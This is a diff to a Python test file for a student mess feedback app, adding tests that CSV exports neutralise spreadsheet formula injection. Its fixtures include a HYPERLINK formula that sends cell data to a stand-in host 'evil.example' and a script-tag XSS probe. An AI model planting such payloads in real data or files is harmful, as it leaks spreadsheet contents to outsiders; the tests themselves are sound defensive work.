@@ -42,6 +42,8 @@ def data(mess1, mess2, ground, first):
     feedback(mess1, TODAY, "lunch", 1, 'Cold, "stale" rice,\nand a <script>alert(1)</script>', "hygiene", student=alice)
     feedback(mess1, days_ago(3), "dinner", 4, student=alice)
     feedback(mess2, TODAY, "lunch", 5, "Great", student=bob)
+    feedback(mess2, days_ago(1), "lunch", 1, '=HYPERLINK("http://evil.example/?"&A1,"x")', student=bob)
+    feedback(mess2, days_ago(2), "lunch", 2, "'=already quoted", student=bob)
 
 
 def test_an_official_exports_their_mess_waste(client, official, data):
@@ -109,11 +111,21 @@ def test_what_goes_out_comes_back_in_unchanged(client, admin, data):
 
     # Unchanged data: the files change nothing...
     assert str(waste_import(file=io.BytesIO(waste_file))) == "imported 5 waste records (0 new, 0 updated, 5 unchanged)"
-    assert str(feedback_import(file=io.BytesIO(feedback_file))) == "imported 3 feedback entries (0 new, 0 updated, 3 unchanged)"
+    assert str(feedback_import(file=io.BytesIO(feedback_file))) == "imported 5 feedback entries (0 new, 0 updated, 5 unchanged)"
     # ...and after losing everything, they bring it all back.
     WasteRecord.objects.all().delete()
     Feedback.objects.all().delete()
     assert waste_import(file=io.BytesIO(waste_file)).new == 5
-    assert feedback_import(file=io.BytesIO(feedback_file)).new == 3
+    assert feedback_import(file=io.BytesIO(feedback_file)).new == 5
     assert sorted(WasteRecord.objects.values_list("floor_id", "date", "meal", "total_kg", "diners")) == waste_before
     assert sorted(Feedback.objects.values_list("student_id", "mess_id", "date", "meal", "rating", "comment", "category")) == feedback_before
+
+
+def test_a_comment_a_spreadsheet_would_run_goes_out_as_text(client, admin, data):
+    client.force_login(admin)
+
+    comments = [row[5] for row in rows(client.get("/overview/feedback.csv", {"start": "2026-03-01", "end": "2026-03-10"}))[1:]]
+
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in comments
+    assert "''=already quoted" in comments
+    assert not [c for c in comments if c[:1] in ("=", "+", "-", "@")]
